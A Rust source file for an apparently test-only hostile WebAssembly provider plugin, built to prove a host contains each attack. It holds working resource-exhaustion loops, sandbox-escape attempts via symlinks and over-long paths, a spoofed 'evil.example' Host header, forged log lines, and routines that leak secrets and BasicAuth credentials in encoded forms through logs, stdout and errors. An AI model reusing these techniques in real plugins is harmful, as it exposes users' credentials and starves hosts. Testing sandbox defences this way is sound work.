//! A plugin that attacks its host, one attack per call, so host tests can prove each one
//! is contained: the host must stop it with a clear error and keep serving other calls
//! and other plugins. Never deploy it.
//!
//! - `validate_config`: field `"validate"` = `ok` (default) | `loop` (burn CPU forever)
//!   | `sleep` (block forever on a clock, burning no fuel) | `http` (GET field `"url"`
//!   while the host denies HTTP; the outcome comes back as the error).
//! - `get(id)`, id = `attack` or `attack:arg`: `ok`, `loop`, `sleep:<ms>`, `memory`,
//!   `recurse`, `panic`, `http:<url>`, `host-header:<url>`, `read:<path>`,
//!   `write:<path>`, `symlink:<target>` (`/tmp/link` -> target, then read it), `fill-tmp:<bytes>`, `log-flood`.
//!   A successful attack reports what it achieved in the instance's `id` (spaces as `_`).
//! - Replies the host must refuse (`get`): `ip:<text>` (Running at that "address"),
//!   `id-secret` / `uid-secret` (the `token` secret as the ID or UID), `created-at:<secs>`,
//!   `huge-id:<bytes>`, `id-stash` (the cloud-init stashed by `create` as the ID).
//! - Texts that cost the redactor (`get`): `mark-run:<bytes>` (eight values of one byte
//!   marked sensitive, then a run of that byte logged and returned as the error).
//! - Leaks the host must scrub (`get`): `stash-leak` (logs, prints and returns in its
//!   error the cloud-init stashed by an earlier `create`, whole and in pieces: each line,
//!   values after `:`/`=`, JSON-escaped, base64 inside a JSON body), `secret-print` (the
//!   `token` secret printed to stdout as is, then line by line to the log),
//!   `echo-hex:<hex>` (logs the decoded text: as if read back from the backend),
//!   `log-forge` (a newline and terminal escapes in a log message), `secret-host` (a
//!   refused request whose host name and method are the `apikey` secret).
//! - Host resources, each held until the host stops the call: `fields-flood:<bytes>`
//!   (`wasi:http` fields of one `<bytes>`-long header each, kept alive), `hold-requests:<url>`
//!   (64 requests sent and never read), `http-seq:<url>` (50 requests one after the other,
//!   each read and dropped: must succeed), `http-flood:<url>` (requests one after the
//!   other for ever: the request budget must end it), `open-files` (files opened and kept),
//!   `unlink-write:<bytes>` (written to a file already unlinked), `deep-tmp:<levels>:<bytes>`
//!   (a chain of directories with 100-byte names, each entered through its descriptor, so
//!   far past `PATH_MAX`; then `<bytes>` written at the bottom), `many-dirs` (directories
//!   until stopped), `grow-tmp:<bytes>` (a file grown by `set-size`),
//!   `hoard-http:<mib>:<url>` (`<mib>` MiB of linear memory touched and held through a GET
//!   of `<url>`; instance `ok` after: slow calls at their memory in full, so the host
//!   borrows slots for them).
//! - `create`: by `placement.machine-type`: `get:<attack>` (runs that `get` attack and
//!   returns its ID), `stash` (keeps the cloud-init in the host cache
//!   and succeeds), `id-cloud-init` (returns the cloud-init as the ID), `creds-id:<form>`
//!   and `creds-leak` (below), anything else leaks cloud-init and the `token` secret
//!   through logs, stdout, stderr, the error message and the error code.
//! - A Proxy's credentials, read from the `BasicAuth <user> <password>` line of the
//!   rendered cloud-init in `create` and kept in the host cache for `check`:
//!   `creds-id:<form>` returns them as the ID, `<form>` = `username`, `password`, `pair`
//!   (`user:password`), `basic` (`Basic base64(user:password)`), `base64` / `base64url`
//!   (of the password, after one byte, so at another alignment), `percent` (of the pair);
//!   `creds-leak` logs, prints and returns in its error message and code the password in
//!   every form [`encoded_forms`] makes.
//! - `check`: leaks the secret in a target's message and details; and every credential
//!   kept by a `creds-*` create: raw and encoded in target names, reasons, details and
//!   messages.
//! - `list-by-tag(installation)`: `alias-list:<n>:<bytes>` returns `n` instances whose
//!   strings all point at one `<bytes>`-long string (3 x n x bytes if copied whole); any
//!   other installation runs the config's `"list"` attack, if any, else lists nothing.

use egress_guest_sdk::http::{HeaderError, HttpError, Method, Request};
use egress_guest_sdk::*;
use std::hint::black_box;
use std::io::Write;

struct Hostile;
export_provider!(Hostile);

fn instance(id: &str, ip: impl Into<String>, uid: impl Into<String>) -> Instance {
    Instance {
        id: id.to_string(),
        ip: ip.into(),
        state: State::Running,
        uid: uid.into(),
        created_at: None,
        ..Instance::empty()
    }
}

/// A successful attack's finding, in the one reply field meant for free-form IDs.
fn report(finding: impl Into<String>) -> Instance {
    Instance {
        id: finding.into().replace(' ', "_"),
        ip: String::new(),
        state: State::Provisioning,
        uid: "u".into(),
        created_at: None,
        ..Instance::empty()
    }
}

const STASH: &str = "stashed-cloud-init";
const CREDS: &str = "stashed-credentials";

/// The `BasicAuth <user> <password>` of a rendered cloud-init.
fn credentials_in(cloud_init: &str) -> Option<(String, String)> {
    cloud_init.lines().find_map(|l| {
        let mut words = l.trim().strip_prefix("BasicAuth ")?.split_whitespace();
        Some((words.next()?.to_string(), words.next()?.to_string()))
    })
}

/// Keeps `(user, password)` in the host cache, one pair per line, for `check`.
fn stash_credentials(user: &str, password: &str) {
    let mut all = cache_get(CREDS).unwrap_or_default();
    let line = format!("{user} {password}\n");
    if !String::from_utf8_lossy(&all).contains(&line) {
        all.extend_from_slice(line.as_bytes());
        cache_set(CREDS, &all, 3600);
    }
}

fn stashed_credentials() -> Vec<(String, String)> {
    let all = cache_get(CREDS).unwrap_or_default();
    String::from_utf8_lossy(&all)
        .lines()
        .filter_map(|l| {
            let (u, p) = l.split_once(' ')?;
            Some((u.to_string(), p.to_string()))
        })
        .collect()
}

fn percent(v: &str) -> String {
    v.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~') {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// A credential as a plugin could print it without printing it raw.
fn encoded_forms(user: &str, password: &str) -> Vec<(&'static str, String)> {
    let pair = format!("{user}:{password}");
    vec![
        ("base64", data_encoding::BASE64.encode(password.as_bytes())),
        (
            "base64url",
            data_encoding::BASE64URL_NOPAD.encode(format!("x{password}").as_bytes()),
        ),
        (
            "basic",
            format!("Basic {}", data_encoding::BASE64.encode(pair.as_bytes())),
        ),
        ("percent", percent(&pair)),
        (
            "json",
            serde_json::to_string(&serde_json::json!({ "password": password })).unwrap_or_default(),
        ),
    ]
}

/// `creds-id:<form>`: the credentials in `cloud_init` as an instance ID.
fn credentials_as_id(form: &str, cloud_init: &str) -> Result<String, ProviderError> {
    let (user, password) = credentials_in(cloud_init)
        .ok_or_else(|| ProviderError::permanent("no BasicAuth line in the cloud-init"))?;
    stash_credentials(&user, &password);
    let pair = format!("{user}:{password}");
    Ok(match form {
        "username" => user,
        "password" => password,
        "pair" => pair,
        // Without the space, which an ID may not hold: the host must refuse it for what
        // it holds.
        "basic" => format!("Basic{}", data_encoding::BASE64.encode(pair.as_bytes())),
        "base64" => data_encoding::BASE64.encode(format!("x{password}").as_bytes()),
        "base64url" => data_encoding::BASE64URL_NOPAD.encode(format!("x{password}").as_bytes()),
        "percent" => percent(&pair),
        other => return Err(ProviderError::permanent(format!("unknown form {other:?}"))),
    })
}

/// `creds-leak`: the password of `cloud_init` in every encoded form, through every
/// channel a plugin has.
fn leak_credentials(cloud_init: &str) -> ProviderError {
    let Some((user, password)) = credentials_in(cloud_init) else {
        return ProviderError::permanent("no BasicAuth line in the cloud-init");
    };
    stash_credentials(&user, &password);
    let forms = encoded_forms(&user, &password);
    for (what, form) in &forms {
        info!("{what}: {form}");
        warn!("sending Authorization: {form}");
        let _ = writeln!(std::io::stdout(), "{what}: {form}");
        let _ = writeln!(std::io::stderr(), "{what}: {form}");
    }
    let all: Vec<String> = forms.iter().map(|(w, f)| format!("{w}={f}")).collect();
    ProviderError::transient(format!("backend refused {}", all.join(" ")))
        .with_code(forms[0].1.clone())
}

fn stashed() -> String {
    cache_get(STASH)
        .map(|b| String::from_utf8_lossy(&b).into_owned())
        .unwrap_or_default()
}

/// Pieces of a cloud-init document a plugin could print without printing it whole.
fn pieces(doc: &str) -> Vec<String> {
    let mut out = vec![doc.to_string()];
    for line in doc.lines() {
        out.push(line.trim().to_string());
        for sep in [':', '='] {
            if let Some((_, value)) = line.split_once(sep) {
                out.push(value.trim().to_string());
            }
        }
        for word in line.split_whitespace() {
            out.push(word.to_string());
        }
    }
    out.push(serde_json::to_string(doc).unwrap_or_default());
    let body = format!(
        "{{\"user_data\":{}}}",
        serde_json::to_string(doc).unwrap_or_default()
    );
    out.push(data_encoding::BASE64.encode(body.as_bytes()));
    out
}

fn hex_decode(hex: &str) -> String {
    let bytes: Vec<u8> = (0..hex.len() / 2)
        .filter_map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).ok())
        .collect();
    String::from_utf8_lossy(&bytes).into_owned()
}

fn spin() -> ! {
    let mut x = 0u64;
    loop {
        x = black_box(x.wrapping_add(1));
    }
}

/// Waits on a `wasi:clocks` pollable: the guest executes no instructions meanwhile, so
/// only a wall-time deadline (not fuel) can stop it.
fn sleep_ms(ms: u64) {
    wasip2::clocks::monotonic_clock::subscribe_duration(ms.saturating_mul(1_000_000)).block();
}

fn sleep_forever() -> ! {
    loop {
        sleep_ms(3_600_000);
    }
}

fn eat_memory() -> ! {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut chunk = vec![0u8; 1 << 20];
        for i in (0..chunk.len()).step_by(4096) {
            chunk[i] = 1;
        }
        hoard.push(black_box(chunk));
    }
}

/// `mib` MiB, every page touched, so that each counts in the process's memory.
fn hoard(mib: usize) -> Vec<Vec<u8>> {
    (0..mib)
        .map(|_| {
            let mut chunk = vec![0u8; 1 << 20];
            for i in (0..chunk.len()).step_by(4096) {
                chunk[i] = 1;
            }
            black_box(chunk)
        })
        .collect()
}

#[allow(unconditional_recursion)]
#[inline(never)]
fn recurse(depth: u64) -> u64 {
    let frame = black_box([depth; 32]);
    recurse(depth + 1).wrapping_add(frame[(depth % 32) as usize])
}

fn fetch(url: &str, host_header: bool) -> Result<Instance, ProviderError> {
    let mut req = Request::get(url);
    if host_header {
        req = req.header("Host", "evil.example");
    }
    match req.send() {
        Ok(r) => Ok(report(format!("{} {}", r.status, r.body.len()))),
        Err(
            e @ HttpError::Header {
                error: HeaderError::Forbidden,
                ..
            },
        ) => Err(ProviderError::permanent(e.to_string()).with_code("HeaderForbidden")),
        Err(e) => Err(ProviderError::transient(e.to_string()).with_code(e.code_name())),
    }
}

fn io_report(verb: &str, r: std::io::Result<usize>) -> Result<Instance, ProviderError> {
    match r {
        Ok(n) => Ok(report(format!("{verb} {n} bytes"))),
        Err(e) => Err(ProviderError::permanent(e.to_string()).with_code("IoError")),
    }
}

/// Creates `/tmp/<name>` -> `target` through `wasi:filesystem` directly (what std's
/// still-unstable `symlink_path` does), so the host's preopen must refuse a link that
/// escapes `/tmp` or at least refuse to follow it.
fn symlink_in_tmp(target: &str, name: &str) -> std::io::Result<()> {
    let _ = std::fs::remove_file(format!("/tmp/{name}"));
    let dirs = wasip2::filesystem::preopens::get_directories();
    let (tmp, _) = dirs
        .iter()
        .find(|(_, path)| path.trim_end_matches('/') == "/tmp")
        .ok_or_else(|| std::io::Error::other("no /tmp preopen"))?;
    tmp.symlink_at(target, name)
        .map_err(|code| std::io::Error::other(format!("symlink-at: {code:?}")))
}

fn fill_tmp(bytes: u64) -> std::io::Result<usize> {
    let mut f = std::fs::File::create("/tmp/fill")?;
    let chunk = vec![b'f'; 64 * 1024];
    let mut left = bytes;
    while left > 0 {
        let n = left.min(chunk.len() as u64) as usize;
        f.write_all(&chunk[..n])?;
        left -= n as u64;
    }
    f.flush()?;
    Ok(bytes as usize)
}

fn fields_flood(bytes: usize) -> Result<Instance, ProviderError> {
    use wasip2::http::types::Fields;
    let value = vec![b'v'; bytes];
    let mut hoard = Vec::new();
    for i in 0..1_000_000u32 {
        let f = Fields::new();
        if let Err(e) = f.append("x-flood", &value) {
            return Err(ProviderError::permanent(format!(
                "fields {i}: host refused the header: {e:?}"
            ))
            .with_code("HeaderRefused"));
        }
        hoard.push(f);
    }
    Ok(report(format!("held {} fields", hoard.len())))
}

fn hold_requests(url: &str) -> Result<Instance, ProviderError> {
    use wasip2::http::outgoing_handler;
    use wasip2::http::types::{Fields, OutgoingRequest, Scheme};
    let rest = url
        .strip_prefix("http://")
        .ok_or_else(|| ProviderError::permanent("hold-requests needs an http:// URL"))?;
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let mut held = Vec::new();
    for _ in 0..64 {
        let req = OutgoingRequest::new(Fields::new());
        let _ = req.set_scheme(Some(&Scheme::Http));
        let _ = req.set_authority(Some(authority));
        let _ = req.set_path_with_query(Some(if path.is_empty() { "/" } else { path }));
        match outgoing_handler::handle(req, None) {
            Ok(f) => held.push(f),
            Err(e) => {
                return Err(ProviderError::transient(format!("handle: {e:?}")).with_code("Refused"));
            }
        }
    }
    // Keep them all in flight, and wait.
    sleep_ms(60_000);
    Ok(report(format!("held {} requests", held.len())))
}

fn http_sequence(url: &str) -> Result<Instance, ProviderError> {
    for i in 0..50 {
        if let Err(e) = Request::get(url).send() {
            return Err(
                ProviderError::transient(format!("request {i}: {e}")).with_code(e.code_name())
            );
        }
    }
    Ok(report("50 requests"))
}

/// Requests to `url` one after the other, for ever: only the host's request budget (or the
/// call's time) ends it.
fn http_flood(url: &str) -> Result<Instance, ProviderError> {
    let mut i = 0u64;
    loop {
        if let Err(e) = Request::get(url).send() {
            return Err(
                ProviderError::transient(format!("request {i}: {e}")).with_code(e.code_name())
            );
        }
        i += 1;
    }
}

fn open_files() -> std::io::Result<usize> {
    let mut held = Vec::new();
    for i in 0..100_000 {
        held.push(std::fs::File::create(format!("/tmp/open-{i}"))?);
    }
    Ok(held.len())
}

fn unlink_write(bytes: u64) -> std::io::Result<usize> {
    let mut f = std::fs::File::create("/tmp/ghost")?;
    std::fs::remove_file("/tmp/ghost")?;
    let chunk = vec![b'g'; 64 * 1024];
    let mut left = bytes;
    while left > 0 {
        let n = left.min(chunk.len() as u64) as usize;
        f.write_all(&chunk[..n])?;
        left -= n as u64;
    }
    Ok(bytes as usize)
}

fn tmp_dir() -> std::io::Result<wasip2::filesystem::types::Descriptor> {
    wasip2::filesystem::preopens::get_directories()
        .into_iter()
        .find(|(_, path)| path.trim_end_matches('/') == "/tmp")
        .map(|(d, _)| d)
        .ok_or_else(|| std::io::Error::other("no /tmp preopen"))
}

fn fs_err(what: &str, code: wasip2::filesystem::types::ErrorCode) -> std::io::Error {
    std::io::Error::other(format!("{what}: {code:?}"))
}

fn deep_tmp(levels: u32, bytes: u64) -> std::io::Result<usize> {
    use wasip2::filesystem::types::{DescriptorFlags, OpenFlags, PathFlags};
    let name = "d".repeat(100);
    let mut dir = tmp_dir()?;
    for _ in 0..levels {
        dir.create_directory_at(&name)
            .map_err(|c| fs_err("create-directory-at", c))?;
        dir = dir
            .open_at(
                PathFlags::empty(),
                &name,
                OpenFlags::DIRECTORY,
                DescriptorFlags::READ | DescriptorFlags::MUTATE_DIRECTORY,
            )
            .map_err(|c| fs_err("open-at", c))?;
    }
    let file = dir
        .open_at(
            PathFlags::empty(),
            "deep",
            OpenFlags::CREATE,
            DescriptorFlags::WRITE,
        )
        .map_err(|c| fs_err("open-at", c))?;
    let chunk = vec![b'p'; 64 * 1024];
    let mut at = 0;
    while at < bytes {
        let n = (bytes - at).min(chunk.len() as u64) as usize;
        at += file
            .write(&chunk[..n], at)
            .map_err(|c| fs_err("write", c))?;
    }
    Ok(at as usize)
}

fn many_dirs() -> std::io::Result<usize> {
    for i in 0..1_000_000 {
        std::fs::create_dir(format!("/tmp/dir-{i}"))?;
    }
    Ok(1_000_000)
}

fn grow_tmp(bytes: u64) -> std::io::Result<usize> {
    let f = std::fs::File::create("/tmp/sparse")?;
    f.set_len(bytes)?;
    Ok(bytes as usize)
}

fn log_flood() {
    let line = "x".repeat(1024);
    for _ in 0..100_000 {
        egress_guest_sdk::host::log(Level::Info, &line);
    }
    let chunk = vec![b'o'; 64 * 1024];
    // Write errors (a host that closed the stream at its cap) are the point, not a bug.
    for _ in 0..160 {
        let _ = std::io::stdout().write_all(&chunk);
    }
    for _ in 0..160 {
        let _ = std::io::stderr().write_all(&chunk);
    }
}

/// `n` instances whose `id`, `ip` and `uid` all point at the same `bytes` of linear
/// memory: the guest pays for `n` records and one string, a host that copied every string
/// before checking would pay `3 x n x bytes`.
fn alias_list(n: usize, bytes: usize) -> Vec<Instance> {
    let shared: &'static mut [u8] = Box::leak(vec![b'a'; bytes].into_boxed_slice());
    let (ptr, len) = (shared.as_mut_ptr(), shared.len());
    // Hostile on purpose: every String claims the same leaked buffer. None is dropped in
    // the guest: the bindings pass each one's pointer to the host and forget it (capacity
    // equals length, so nothing is reallocated on the way).
    let alias = || unsafe { String::from_raw_parts(ptr, len, len) };
    (0..n)
        .map(|_| Instance {
            id: alias(),
            ip: alias(),
            state: State::Running,
            uid: alias(),
            created_at: None,
            ..Instance::empty()
        })
        .collect()
}

fn leaked_secret() -> String {
    secret_string("token").unwrap_or_default()
}

impl Provider for Hostile {
    const OUTCOMES: egress_guest_sdk::outcome::Outcomes =
        egress_guest_sdk::outcome::Outcomes::new("hostile");

    fn info() -> PluginInfo {
        PluginInfo {
            has_check: true,
            ..PluginInfo::new("hostile", env!("CARGO_PKG_VERSION"))
        }
    }

    fn validate_config(config: &str) -> Result<(), ProviderError> {
        let v: serde_json::Value = serde_json::from_str(config)
            .map_err(|e| ProviderError::permanent(format!("config is not JSON: {e}")))?;
        match v.get("validate").and_then(|m| m.as_str()).unwrap_or("ok") {
            "ok" => Ok(()),
            "loop" => spin(),
            "sleep" => sleep_forever(),
            "http" => {
                let url = v.get("url").and_then(|u| u.as_str()).unwrap_or_default();
                match fetch(url, false) {
                    Ok(i) => Err(ProviderError::permanent(format!(
                        "validate reached {url}: HTTP {}",
                        i.id
                    ))
                    .with_code("Reached")),
                    Err(e) => Err(e),
                }
            }
            other => Err(ProviderError::permanent(format!(
                "config.validate {other:?} is not ok|loop|sleep|http"
            ))),
        }
    }

    fn create(req: CreateRequest) -> Result<String, ProviderError> {
        let secret = leaked_secret();
        let cloud_init = String::from_utf8_lossy(&req.cloud_init).into_owned();
        // `get:<attack>`: the attack, run by create (what an operator's reconcile calls
        // again and again for a Proxy of this provider).
        if let Some(attack) = req.placement.machine_type.strip_prefix("get:") {
            return Self::get(attack).map(|i| i.id);
        }
        // `run+<quote attack>`: an instance that runs at once, so the operator asks the
        // placement's price, which `quote` then attacks.
        if req.placement.machine_type.starts_with("run+") {
            return Ok("running".into());
        }
        match req.placement.machine_type.as_str() {
            "stash" => {
                cache_set(STASH, &req.cloud_init, 3600);
                return Ok("stashed-1".into());
            }
            "id-cloud-init" => return Ok(cloud_init),
            "creds-leak" => return Err(leak_credentials(&cloud_init)),
            other => {
                if let Some(form) = other.strip_prefix("creds-id:") {
                    return credentials_as_id(form, &cloud_init);
                }
            }
        }
        info!("cloud-init: {cloud_init} secret: {secret}");
        warn!("cloud-init: {cloud_init} secret: {secret}");
        let _ = writeln!(
            std::io::stdout(),
            "cloud-init: {cloud_init} secret: {secret}"
        );
        let _ = writeln!(
            std::io::stderr(),
            "cloud-init: {cloud_init} secret: {secret}"
        );
        Err(
            ProviderError::transient(format!("leak: cloud-init {cloud_init} secret {secret}"))
                .with_code(secret),
        )
    }

    fn get(id: &str) -> Result<Instance, ProviderError> {
        let (attack, arg) = id.split_once(':').unwrap_or((id, ""));
        match attack {
            "ok" => Ok(report("ok")),
            "running" => Ok(instance("running", "203.0.113.9", "u")),
            "ip" => Ok(instance("i-1", arg, "u")),
            "id-secret" => Ok(instance(&leaked_secret(), "", "u")),
            "uid-secret" => Ok(instance("i-1", "", leaked_secret())),
            "id-stash" => Ok(instance(&stashed(), "", "u")),
            // Contract 0.2.0: what a plugin marks sensitive itself is scrubbed like a secret.
            "mark" => {
                egress_guest_sdk::mark_sensitive(arg.as_bytes());
                info!("derived token {arg}");
                Err(ProviderError::transient(format!("token {arg}")).with_code(arg))
            }
            "id" => Ok(instance(arg, "", "u")),
            // A new value of the largest size, again and again: the shared redaction memory
            // must not fill with one plugin's values. The last one goes into the error.
            "mark-flood" => {
                let mut last = String::new();
                for _ in 0..arg.parse().unwrap_or(100) {
                    last = egress_guest_sdk::random::random_bytes(1024)
                        .iter()
                        .map(|b| format!("{b:02x}"))
                        .collect();
                    egress_guest_sdk::mark_sensitive(last.as_bytes());
                }
                Err(ProviderError::transient(format!("flooded, last {last}")))
            }
            // Eight values made of one byte, then `arg` bytes of it (default 3,000,000, under
            // the 3 MiB a host call lifts) in a log line and in the error: every place of
            // the text matches every value, 8 spans a byte for a redactor to hold.
            "mark-run" => {
                for n in 8..16 {
                    egress_guest_sdk::mark_sensitive(&vec![b'a'; n]);
                }
                let run = "a".repeat(arg.parse().unwrap_or(3_000_000));
                info!("{run}");
                Err(ProviderError::transient(run))
            }
            "mark-huge" => {
                egress_guest_sdk::mark_sensitive(&vec![b'a'; arg.parse().unwrap_or(1 << 20)]);
                Ok(report("marked"))
            }
            "rate-limited" => Err(ProviderError::quota("backend says: slow down")
                .with_retry_after(arg.parse().unwrap_or(u32::MAX))),
            "interrupted" => Ok(Instance {
                state: match arg {
                    "running" => State::Running,
                    _ => State::Terminated,
                },
                interrupted: true,
                ..instance("i-1", "203.0.113.9", "u")
            }),
            "price" => Ok(Instance {
                hourly_price: Some(egress_guest_sdk::Price {
                    currency: arg.into(),
                    micros_per_hour: 12_500,
                }),
                ..instance("i-1", "203.0.113.9", "u")
            }),
            "ipv6" => Ok(Instance {
                ip: String::new(),
                ipv6: arg.into(),
                ..instance("i-1", "", "u")
            }),
            "created-at" => {
                let seconds = arg.parse().map_err(|_| {
                    ProviderError::permanent(format!("created-at needs seconds, got {arg:?}"))
                })?;
                Ok(Instance {
                    created_at: Some(Datetime {
                        seconds,
                        nanoseconds: 0,
                    }),
                    ..instance("i-1", "", "u")
                })
            }
            "huge-id" => {
                let n: usize = arg.parse().unwrap_or(1 << 20);
                Ok(instance(&"i".repeat(n), "", "u"))
            }
            "stash-leak" => {
                let doc = stashed();
                for piece in pieces(&doc) {
                    info!("piece: {piece}");
                    let _ = writeln!(std::io::stdout(), "piece: {piece}");
                }
                Err(
                    ProviderError::transient(format!("stash: {}", pieces(&doc).join(" | ")))
                        .with_code(doc),
                )
            }
            "secret-print" => {
                let secret = leaked_secret();
                let _ = std::io::stdout().write_all(secret.as_bytes());
                let _ = std::io::stdout().flush();
                for line in secret.lines() {
                    warn!("{line}");
                }
                Ok(report("printed"))
            }
            "echo-hex" => {
                let text = hex_decode(arg);
                info!("read back from the backend: {text}");
                let _ = writeln!(std::io::stderr(), "{text}");
                Ok(report("echoed"))
            }
            "log-forge" => {
                info!(
                    "innocent\n2026-12-01T00:00:00Z ERROR FORGED-LINE operator compromised\u{1b}[2J"
                );
                Ok(report("forged"))
            }
            "secret-host" => {
                let key = secret_string("apikey").unwrap_or_default();
                let _ = Request::get(format!("http://{key}.example.invalid/")).send();
                let _ = Request::new(
                    Method::Other(key.to_uppercase()),
                    format!("http://{key}.example.invalid/"),
                )
                .send();
                Ok(report("tried"))
            }
            "loop" => spin(),
            "sleep" => {
                let ms = arg.parse().map_err(|_| {
                    ProviderError::permanent(format!("sleep needs milliseconds, got {arg:?}"))
                })?;
                sleep_ms(ms);
                Ok(report("slept"))
            }
            "memory" => eat_memory(),
            "hoard-http" => {
                let (mib, url) = arg.split_once(':').unwrap_or(("", arg));
                let mib = mib.parse().map_err(|_| {
                    ProviderError::permanent(format!("hoard-http needs <mib>:<url>, got {arg:?}"))
                })?;
                let held = hoard(mib);
                let fetched = fetch(url, false);
                black_box(&held);
                fetched.map(|_| report("ok"))
            }
            "recurse" => {
                let n = recurse(0);
                Ok(report(n.to_string()))
            }
            "panic" => panic!("hostile panic"),
            "http" => fetch(arg, false),
            "host-header" => fetch(arg, true),
            "read" => io_report("read", std::fs::read(arg).map(|b| b.len())),
            "write" => io_report("wrote", std::fs::write(arg, b"x").map(|()| 1)),
            "symlink" => match symlink_in_tmp(arg, "link") {
                Ok(()) => io_report("read", std::fs::read("/tmp/link").map(|b| b.len())),
                Err(e) => Err(ProviderError::permanent(e.to_string()).with_code("SymlinkError")),
            },
            "fill-tmp" => {
                let n = arg.parse().map_err(|_| {
                    ProviderError::permanent(format!("fill-tmp needs a byte count, got {arg:?}"))
                })?;
                io_report("wrote", fill_tmp(n))
            }
            "fields-flood" => fields_flood(arg.parse().unwrap_or(15_000)),
            "hold-requests" => hold_requests(arg),
            "http-seq" => http_sequence(arg),
            "http-flood" => http_flood(arg),
            "open-files" => io_report("opened", open_files()),
            "unlink-write" => io_report("wrote", unlink_write(arg.parse().unwrap_or(1 << 30))),
            "deep-tmp" => {
                let (levels, bytes) = arg.split_once(':').unwrap_or((arg, "0"));
                io_report(
                    "wrote",
                    deep_tmp(
                        levels.parse().unwrap_or(100_000),
                        bytes.parse().unwrap_or(0),
                    ),
                )
            }
            "many-dirs" => io_report("made", many_dirs()),
            "grow-tmp" => io_report("grew", grow_tmp(arg.parse().unwrap_or(1 << 40))),
            "log-flood" => {
                log_flood();
                Ok(report("flooded"))
            }
            _ => Err(ProviderError::permanent("unknown attack")),
        }
    }

    fn delete(_id: &str) -> Result<(), ProviderError> {
        Ok(())
    }

    fn list_by_tag(installation: &str) -> Result<Vec<Instance>, ProviderError> {
        let (attack, arg) = installation.split_once(':').unwrap_or((installation, ""));
        match attack {
            "alias-list" => {
                let (n, bytes) = arg.split_once(':').unwrap_or((arg, "65536"));
                Ok(alias_list(
                    n.parse().unwrap_or(2000),
                    bytes.parse().unwrap_or(64 * 1024),
                ))
            }
            // From the config, for an operator that lists with its own installation.
            _ => match serde_json::from_str::<serde_json::Value>(&config())
                .ok()
                .and_then(|c| c.get("list")?.as_str().map(String::from))
            {
                Some(attack) if attack.starts_with("alias-list:") => Self::list_by_tag(&attack),
                _ => Ok(Vec::new()),
            },
        }
    }

    /// Contract 0.3.0: it claims to list recent instances, and its lists of them carry
    /// the same attacks as its whole lists (`alias-list:<n>:<bytes>`, the config's `list`).
    const LISTS_RECENT: bool = true;

    fn list_recent(
        installation: &str,
        since: egress_guest_sdk::Datetime,
    ) -> Result<Vec<Instance>, ProviderError> {
        let _ = since;
        Self::list_by_tag(installation)
    }

    /// The region names the currency: a hostile price is one with a malformed code.
    fn quote(placement: Placement) -> Result<Option<egress_guest_sdk::Price>, ProviderError> {
        let price = |currency: &str, micros_per_hour| {
            Ok(Some(egress_guest_sdk::Price {
                currency: currency.into(),
                micros_per_hour,
            }))
        };
        match placement.machine_type.as_str() {
            // The largest amount there is: it must still fit the Proxy's status.
            "run+huge" => price("IDR", u64::MAX),
            // Not a currency code: refused by the host, the Proxy has no price.
            "run+currency" => price("not a currency", 1),
            // A catalogue that never answers: held to the call's time limit, and no
            // reconcile may wait on it.
            "run+hang" => loop {
                std::thread::sleep(std::time::Duration::from_secs(1));
            },
            _ => price(&placement.region, 12_500),
        }
    }

    fn check() -> Vec<TargetStatus> {
        let secret = leaked_secret();
        let mut out = vec![TargetStatus {
            target: "leak".into(),
            ready: false,
            reason: "Leak".into(),
            message: format!("secret {secret}"),
            details: vec![("secret".into(), secret)],
        }];
        for (n, (user, password)) in stashed_credentials().into_iter().enumerate() {
            let forms = encoded_forms(&user, &password);
            let all: Vec<String> = forms.iter().map(|(w, f)| format!("{w}={f}")).collect();
            let b64url = data_encoding::BASE64URL_NOPAD.encode(password.as_bytes());
            let mut details = vec![
                ("password".to_string(), password.clone()),
                ("user".to_string(), user.clone()),
            ];
            details.extend(forms.iter().map(|(w, f)| (w.to_string(), f.clone())));
            out.push(TargetStatus {
                target: password.clone(),
                ready: false,
                reason: "Leak".into(),
                message: format!("password {password}"),
                details: Vec::new(),
            });
            out.push(TargetStatus {
                target: format!("r{n}-{b64url}"),
                ready: true,
                reason: "Reachable".into(),
                message: String::new(),
                details: Vec::new(),
            });
            out.push(TargetStatus {
                target: format!("creds{n}"),
                ready: false,
                reason: format!("Leak{password}"),
                message: format!("user {user} {}", all.join(" ")),
                details,
            });
        }
        out
    }
}
